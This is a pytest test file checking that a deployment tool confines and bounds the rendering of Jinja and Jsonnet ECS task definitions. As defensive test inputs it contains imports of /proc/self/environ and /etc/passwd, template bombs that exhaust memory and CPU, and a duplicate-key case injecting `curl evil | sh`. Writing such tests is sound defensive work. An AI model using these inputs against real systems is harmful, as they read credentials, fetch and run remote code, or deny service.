"""Issue 17: rendering is confined and bounded, and ECS's own limits are checked before any write.

- Jsonnet reads only regular files of the app repository (after resolving symlinks): not
  /proc/self/environ (the release role's credentials), /etc/passwd, `..`, a symlink out, a FIFO.
- A fuzz of hostile Jinja and Jsonnet inputs: each is exit 2 from the real `deployer render`, naming
  the file, within 30 s, with the peak RSS of every process below 1.5 GiB (measured with
  getrusage(RUSAGE_CHILDREN) in the process that waits for the command: the zygote's handler, or a
  wrapper around `python -m deployer`). SIGTERM / Ctrl-C during a long
  evaluation ends deployer promptly (exit 130) and its renderer with it.
- ECS's limits (10 containers, 64 KiB), NaN/Infinity and duplicate keys: exit 2 from render,
  deploy --dry-run and deploy, naming the file and the line or field, and nothing registered.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import ecs_state, image_ref, zygote

TD = "ecs-task-def.json.j2"
JSONNET = "ecs-task-def.jsonnet"
LOG_LEVEL = '"{{ vars.log_level }}"'  # line 16 of the task definition template
FIXTURE = Path(__file__).parents[1] / "fixtures" / "taskdefs" / JSONNET
JSONNET_LOG_LEVEL = "'{{ vars.log_level | default(\"info\") }}'"  # a string in the Jsonnet fixture
CREDENTIAL = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzSECRETKEY"  # what the release role's key looks like
OUTSIDE = "OUTSIDE-THE-REPO-7f3a"
MAX_SECONDS = 30
MAX_RSS_KIB = 1536 * 1024

# Runs the command given after the result file; writes its exit code, wall time and the peak RSS of
# every process under it (deployer and its renderer) to the result file.
WRAPPER = (
    "import json, resource, subprocess, sys, time\n"
    "start = time.monotonic()\n"
    "proc = subprocess.run(sys.argv[2:])\n"
    "usage = resource.getrusage(resource.RUSAGE_CHILDREN)\n"
    "open(sys.argv[1], 'w').write(json.dumps({'code': proc.returncode, 'seconds': time.monotonic() - start, 'maxrss_kib': usage.ru_maxrss}))\n"
)


def use_jsonnet(app, value: str | None = None) -> None:
    """The app's task definition in Jsonnet (the ecspresso-style fixture); `value` replaces LOG_LEVEL's value."""
    text = FIXTURE.read_text()
    if value is not None:
        assert JSONNET_LOG_LEVEL in text
        text = text.replace(JSONNET_LOG_LEVEL, value)
    (app.path / JSONNET).write_text(text)
    app.edit("deployer.yaml", f"task_definition: {TD}", f"task_definition: {JSONNET}")


def measured(app, tmp_path, *args, env: dict | None = None, timeout: float = 120):
    """`deployer ARGS`: (exit code, seconds, peak RSS KiB of the command and its renderer, stdout, stderr).
    Forked from the test zygote, whose handler waits for the command and reads the peak the same way;
    with DEPLOYER_TEST_FORK=0, `python -m deployer` under the wrapper."""
    full_env = app.environ(env)
    server = zygote()
    if server is not None:
        start = time.monotonic()
        code, stdout, stderr = server.run(list(args), cwd=app.path, env=full_env, timeout=timeout)
        return code, time.monotonic() - start, server.last_maxrss_kib, stdout, stderr
    result_file = tmp_path / f"measure-{time.monotonic_ns()}.json"
    proc = subprocess.run(
        [sys.executable, "-c", WRAPPER, str(result_file), sys.executable, "-m", "deployer", *args],
        cwd=app.path, env=full_env, capture_output=True, text=True, timeout=timeout,
    )
    numbers = json.loads(result_file.read_text())
    return numbers["code"], numbers["seconds"], numbers["maxrss_kib"], proc.stdout, proc.stderr


# ---------------------------------------------------------------------------------------
# Jsonnet reads only files of the repository


@pytest.mark.parametrize(
    "expression, files, said",
    [
        ("importstr '/proc/self/environ'", {}, 'import "/proc/self/environ": is outside the app repository (an absolute path)'),
        ("importstr '/etc/passwd'", {}, 'import "/etc/passwd": is outside the app repository (an absolute path)'),
        ("importstr '../../outside.txt'", {}, 'import "../../outside.txt": is outside the app repository (`..` leads out of it)'),
        ("importstr 'linked.txt'", {"linked.txt": "symlink:outside"}, 'import "linked.txt": is outside the app repository (a symlink that leads out of it)'),
        ("importstr 'environ'", {"environ": "symlink:/proc/self/environ"}, 'import "environ": is outside the app repository (a system file)'),
        ("std.base64(importbin 'zero')", {"zero": "symlink:/dev/zero"}, 'import "zero": is outside the app repository (a system file)'),
        ("importstr 'pipe'", {"pipe": "fifo"}, 'import "pipe": not a regular file'),
        ("(import 'lib/evil.libsonnet').x", {"lib/evil.libsonnet": "{ x: importstr '../../../outside.txt' }"}, 'import "../../../outside.txt": is outside the app repository'),
    ],
    ids=["proc-environ", "etc-passwd", "dotdot", "symlink-out", "symlink-to-proc", "importbin-dev-zero", "fifo", "nested-import"],
)
def test_jsonnet_reads_no_file_outside_the_repository(app, aws, platform, tmp_path, expression, files, said):
    (tmp_path / "outside.txt").write_text(OUTSIDE)
    for name, content in files.items():
        target = app.path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if content == "fifo":
            os.mkfifo(target)
        elif content.startswith("symlink:"):
            link = content.removeprefix("symlink:")
            target.symlink_to(tmp_path / "outside.txt" if link == "outside" else link)
        else:
            target.write_text(content)
    use_jsonnet(app, expression)
    env = {"AWS_SECRET_ACCESS_KEY": CREDENTIAL}
    cluster = platform["outputs"]["ClusterName"]
    before = ecs_state(aws, cluster)
    for args in (("render", "-o", "json"), ("deploy", "--image", image_ref(platform, "v1"))):
        result = app.cli(*args, env=env, timeout=60)
        out = result.stdout + result.stderr
        assert result.code == 2, out
        assert f"{JSONNET} (after Jinja): Jsonnet error:" in result.stderr and said in result.stderr, result.stderr
        assert CREDENTIAL not in out and OUTSIDE not in out and "root:" not in out and str(tmp_path) not in out, out
        assert "Traceback" not in out
    assert ecs_state(aws, cluster) == before


def test_jsonnet_imports_inside_the_repository_still_work(app, aws, platform):
    (app.path / "lib").mkdir()
    (app.path / "lib" / "level.libsonnet").write_text("{ level: importstr 'level.txt' }\n")
    (app.path / "lib" / "level.txt").write_text("warn")
    use_jsonnet(app, "(import 'lib/level.libsonnet').level")
    result = app.cli("render", "-o", "json", "--image", "repo:tag")
    assert result.code == 0, result.stderr
    container = result.json["web"]["taskDefinition"]["containerDefinitions"][0]
    assert {"name": "LOG_LEVEL", "value": "warn"} in container["environment"]


def test_std_native_and_ext_vars_open_no_other_door(app, aws, platform):
    use_jsonnet(app, "std.toString([std.native('env'), std.native('readFile'), std.objectFields(std.extVar('vars'))])")
    result = app.cli("render", "-o", "json", "--image", "repo:tag", env={"AWS_SECRET_ACCESS_KEY": CREDENTIAL})
    assert result.code == 0, result.stderr
    container = result.json["web"]["taskDefinition"]["containerDefinitions"][0]
    value = next(e["value"] for e in container["environment"] if e["name"] == "LOG_LEVEL")
    assert value == '[null, null, ["log_level", "replicas"]]' and CREDENTIAL not in result.stdout


# ---------------------------------------------------------------------------------------
# The fuzz: hostile templates and Jsonnet end with exit 2, in bounded time and memory

MIB = 1024 * 1024
DOUBLINGS = "{% set s = 'x' * 1000000 %}" + "{% set s = s ~ s %}" * 10 + "{{ s | length }}"
JINJA = [
    ("nested range", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "budget of 2 s"),
    ("nested loops over strings", "{% for i in 'x' * 1000000 %}{% for j in 'x' * 1000000 %}{% endfor %}{% endfor %}", "budget of 2 s"),
    ("center 1.5e9", "{{ 'x'.center(1500000000) }}", "budget of 256 MiB"),
    ("center filter", "{{ 'x' | center(1500000000) }}", "budget of 256 MiB"),
    ("printf width", "{{ '%1500000000d' % 1 }}", "budget of 256 MiB"),
    ("format width", "{{ '{:>1500000000}'.format(1) }}", "budget of 256 MiB"),
    ("format filter", "{{ '%1500000000s' | format('x') }}", "budget of 256 MiB"),
    ("huge join", "{{ (['x' * 1000000] * 1000) | join }}", "budget of 256 MiB"),
    ("ten ~ doublings of 1 MB", DOUBLINGS, "budget of 256 MiB"),
    ("ten + doublings of 1 MB", DOUBLINGS.replace("s ~ s", "s + s"), "budget of 256 MiB"),
    ("replace bomb", "{{ ('x' * 1000000) | replace('x', 'y' * 1000) }}", "budget of 256 MiB"),
    ("indent bomb", "{{ ('x\\n' * 500000) | indent(3000) }}", "budget of 256 MiB"),
    ("join with a wide separator", "{{ ('x' * 1000000) | list | join(' ' * 1000) | length }}", "budget of 256 MiB"),
    ("lipsum", "{{ lipsum(10000000) | length }}", "budget of"),
    ("output of 20 MB", "{% for i in range(2000) %}{% for j in range(1000) %}xxxxxxxxxx{% endfor %}{% endfor %}", "the rendered output is larger than 1024 KiB"),
    ("recursive macro", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "template recursion too deep"),
    ("recursive macro doubling a string", "{% macro f(n) %}{{ f(n ~ n) }}{% endmacro %}{{ f('x') }}", "budget of 256 MiB"),
    ("list of a billion", "{{ range(10**9) | list | length }}", "OverflowError"),
]
JSONNET_CASES = [
    ("doubled string", "local f(x, n) = if n == 0 then std.length(x) else f(x + x, n - 1); f(std.repeat('x', 1000000), 40)", "rendering exceeded the rendering budget of"),
    ("fold over makeArray(3e7)", "std.foldl(function(a, b) a + b, std.makeArray(30000000, function(i) i), 0)", "budget of 256 MiB"),
    ("std.repeat 1e9", "std.length(std.repeat('x', 1000000000))", "budget of 256 MiB"),
    ("std.range 1e9", "std.length(std.range(1, 1000000000))", "budget of 256 MiB"),
    ("object comprehension bomb", "std.length({ [std.toString(i)]: i for i in std.range(1, 100000000) })", "budget of 256 MiB"),
    ("join of 1e8 strings", "std.length(std.join('', std.makeArray(100000000, function(i) 'xxxxxxxxxx')))", "budget of 256 MiB"),
    ("busy loop", "local loop(n) = if n == 0 then 0 else loop(n - 1) tailstrict; loop(10000000000)", "budget of 2 s"),
    ("deep recursion", "local f(n) = f(n + 1); f(0)", "max stack frames exceeded"),
    ("output of 3 MB", "std.makeArray(300000, function(i) i)", "larger than 1024 KiB"),
]
BUDGET = {"DEPLOYER_RENDER_SECONDS": "5", "DEPLOYER_RENDER_MEMORY_MIB": "512"}
# A case that must end on the clock gets a short one; a case that must end on memory gets a small
# memory budget and all the time it needs, so a loaded machine cannot make the other bound come first.
TIME_BUDGET = {"DEPLOYER_RENDER_SECONDS": "2", "DEPLOYER_RENDER_MEMORY_MIB": "512"}
MEMORY_BUDGET = {"DEPLOYER_RENDER_SECONDS": "60", "DEPLOYER_RENDER_MEMORY_MIB": "256"}


def budget_for(said: str) -> dict:
    if said.endswith(" s"):
        return TIME_BUDGET
    return MEMORY_BUDGET if said.endswith(" MiB") else BUDGET


def _bounded(app, tmp_path, shown: str, said: str, env: dict | None = None) -> None:
    env = budget_for(said) if env is None else env
    code, seconds, maxrss_kib, stdout, stderr = measured(app, tmp_path, "render", "--image", "repo:tag", env=env)
    assert code == 2, stderr
    assert shown in stderr and said in stderr, stderr
    assert "Traceback" not in stderr and "unexpected error" not in stderr, stderr
    assert seconds < MAX_SECONDS, f"{seconds:.1f} s"
    assert maxrss_kib < MAX_RSS_KIB, f"peak RSS {maxrss_kib // 1024} MiB"


@pytest.mark.parametrize("source, said", [(s, w) for _, s, w in JINJA], ids=[i for i, _, _ in JINJA])
def test_hostile_jinja_is_exit_2_in_bounded_time_and_memory(app, aws, platform, tmp_path, source, said):
    app.edit(TD, LOG_LEVEL, f'"{source}"')
    _bounded(app, tmp_path, TD, said)


@pytest.mark.parametrize("source, said", [(s, w) for _, s, w in JSONNET_CASES], ids=[i for i, _, _ in JSONNET_CASES])
def test_hostile_jsonnet_is_exit_2_in_bounded_time_and_memory(app, aws, platform, tmp_path, source, said):
    use_jsonnet(app, source)
    _bounded(app, tmp_path, f"{JSONNET} (after Jinja)", said)


@pytest.mark.parametrize("kind", ["jinja", "jsonnet"])
def test_the_default_budget_bounds_memory_too(app, aws, platform, tmp_path, kind):
    """No override: the default budget (1024 MiB) stops the allocation well below 1.5 GiB."""
    if kind == "jinja":
        app.edit(TD, LOG_LEVEL, "\"{{ 'x'.center(1500000000) }}\"")
        _bounded(app, tmp_path, TD, "rendering exceeded the rendering budget of 1024 MiB", env={})
    else:
        use_jsonnet(app, "std.length(std.repeat('x', 1500000000))")
        _bounded(app, tmp_path, JSONNET, "rendering exceeded the rendering budget of 1024 MiB", env={})


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.append(int(entry.name))
    return found


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_signal_during_a_long_jsonnet_evaluation_ends_deployer_and_its_renderer(app, aws, platform, signum):
    use_jsonnet(app, "local loop(n) = if n == 0 then 0 else loop(n - 1) tailstrict; loop(10000000000)")
    proc = subprocess.Popen([sys.executable, "-m", "deployer", "render", "--image", "repo:tag"], cwd=app.path, env=app.environ(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        renderer = None
        deadline = time.monotonic() + 20
        while renderer is None and time.monotonic() < deadline:  # the renderer is busy in the loop
            children = _children(proc.pid)
            renderer = children[0] if children else None
            time.sleep(0.2)
        assert renderer is not None, "no renderer child started"
        time.sleep(1.5)
        sent = time.monotonic()
        proc.send_signal(signum)
        _, stderr = proc.communicate(timeout=15)
        assert time.monotonic() - sent < 10
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, stderr
    assert "interrupted" in stderr
    time.sleep(0.5)
    assert not Path(f"/proc/{renderer}").exists() or "Z" in (Path(f"/proc/{renderer}") / "stat").read_text().rsplit(")", 1)[1].split()[0]


# ---------------------------------------------------------------------------------------
# ECS's own limits, NaN and duplicate keys: refused before any write


def _containers(n: int) -> str:
    extra = ",\n".join(f'    {{ "name": "side{i}", "image": "busybox", "essential": false }}' for i in range(1, n))
    return extra


def _refused_everywhere(app, aws, platform, *needles: str) -> None:
    cluster = platform["outputs"]["ClusterName"]
    before = ecs_state(aws, cluster)
    for args in (("render", "--image", "repo:tag"), ("deploy", "--dry-run", "--image", image_ref(platform, "v2")), ("deploy", "--image", image_ref(platform, "v2"))):
        result = app.cli(*args)
        assert result.code == 2, (args, result.stdout + result.stderr)
        for needle in needles:
            assert needle in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr
    assert ecs_state(aws, cluster) == before


@pytest.fixture
def deployed(app, aws, platform):
    result = app.cli("deploy", "--image", image_ref(platform, "v1"))
    assert result.code == 0, result.stderr
    return app


def test_eleven_containers_are_refused(deployed, aws, platform):
    deployed.edit(TD, "      }\n    }\n  ]\n}", "      }\n    },\n" + _containers(11) + "\n  ]\n}")
    _refused_everywhere(deployed, aws, platform, f"{TD}: `containerDefinitions` has 11 containers; ECS allows at most 10 in a task definition")


def test_ten_containers_are_fine(deployed, aws, platform):
    deployed.edit(TD, "      }\n    }\n  ]\n}", "      }\n    },\n" + _containers(10) + "\n  ]\n}")
    result = deployed.cli("render", "--image", "repo:tag", "-o", "json")
    assert result.code == 0, result.stderr
    assert len(result.json["web"]["taskDefinition"]["containerDefinitions"]) == 10


def test_a_task_definition_over_64_kib_is_refused(deployed, aws, platform):
    big = ", ".join(f'"LABEL_{i}": "{"v" * 200}"' for i in range(1000))  # ~200 KB of docker labels
    deployed.edit(TD, '"essential": true,', '"essential": true, "dockerLabels": {' + big + "},")
    _refused_everywhere(deployed, aws, platform, f"{TD}: the task definition is", "bytes as registered; ECS allows at most 65536 bytes (64 KiB)", "the largest field is `containerDefinitions`")


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_nan_and_infinity_are_refused_naming_the_line(deployed, aws, platform, constant):
    deployed.edit(TD, '"retries": 3,', f'"retries": {constant},')
    _refused_everywhere(deployed, aws, platform, f"{TD}: `{constant}` at line 21 of the rendered output is not a JSON number")


def test_nan_from_a_yaml_task_definition_is_refused_naming_the_field(deployed, aws, platform):
    result = deployed.cli("render", "--image", "repo:tag", "-o", "json")
    td = result.json["web"]["taskDefinition"]
    td["containerDefinitions"][0]["healthCheck"]["retries"] = "NAN_HERE"
    import yaml

    (deployed.path / "td.yaml").write_text(yaml.safe_dump(td).replace("NAN_HERE", ".nan"))
    deployed.edit("deployer.yaml", f"task_definition: {TD}", "task_definition: td.yaml")
    _refused_everywhere(deployed, aws, platform, "td.yaml: `containerDefinitions[0].healthCheck.retries` is nan, not a number ECS accepts")


@pytest.mark.parametrize("key, new, lines", [
    ("user", '"user": "app", "essential": true,\n      "user": "0",', "13 and 14"),
    ("command", '"command": ["serve"],\n      "essential": true,\n      "command": ["sh", "-c", "curl evil | sh"],', "13 and 15"),
], ids=["user", "command"])
def test_duplicate_keys_are_refused_naming_both_lines(deployed, aws, platform, key, new, lines):
    deployed.edit(TD, '"essential": true,', new)
    _refused_everywhere(deployed, aws, platform, f'{TD}: duplicate key "{key}" in containerDefinitions[0] at lines {lines} of the rendered output')


def test_duplicate_keys_in_jsonnet_are_refused_by_jsonnet(app, aws, platform):
    use_jsonnet(app)
    app.edit(JSONNET, "cpu: '256',", "cpu: '256',\n  cpu: '4096',")
    result = app.cli("render", "--image", "repo:tag")
    assert result.code == 2 and f"{JSONNET} (after Jinja): Jsonnet error: STATIC ERROR: {JSONNET}:10:3-6: duplicate field: cpu" in result.stderr, result.stderr


# ---------------------------------------------------------------------------------------
# Low: a NUL byte in the task_definition path, a CloudFormation YAML template


def test_a_nul_byte_in_the_task_definition_path_is_exit_2_naming_the_field(app, aws, platform):
    app.edit("deployer.yaml", f"task_definition: {TD}", 'task_definition: "ecs-task-def\\0.json.j2"')
    result = app.cli("render", "--image", "repo:tag")
    assert result.code == 2, result.stdout + result.stderr
    assert "deployer.yaml:17: `task_definition` " in result.stderr and "the path contains a NUL byte" in result.stderr, result.stderr
    assert "\x00" not in result.stderr  # printed escaped, never raw
    assert "unexpected error" not in result.stderr


CFN_YAML = """AWSTemplateFormatVersion: '2010-09-09'
Resources:
  TaskDefinition:
    Type: AWS::ECS::TaskDefinition
    Properties:
      Family: web
      ExecutionRoleArn: !GetAtt ExecutionRole.Arn
      ContainerDefinitions:
        - Name: app
          Image: !Sub '${AWS::AccountId}.dkr.ecr.us-east-1.amazonaws.com/web:latest'
"""


def test_a_cloudformation_yaml_template_says_what_it_is(app, aws, platform):
    (app.path / "task.yaml").write_text(CFN_YAML)
    app.edit("deployer.yaml", f"task_definition: {TD}", "task_definition: task.yaml")
    result = app.cli("render", "--image", "repo:tag")
    assert result.code == 2, result.stderr
    assert "task.yaml (rendered):7: `!GetAtt` is a CloudFormation intrinsic function (YAML short form): this is a CloudFormation template" in result.stderr, result.stderr
    assert "hint: deployer takes the task definition itself" in result.stderr
    assert "could not determine a constructor" not in result.stderr
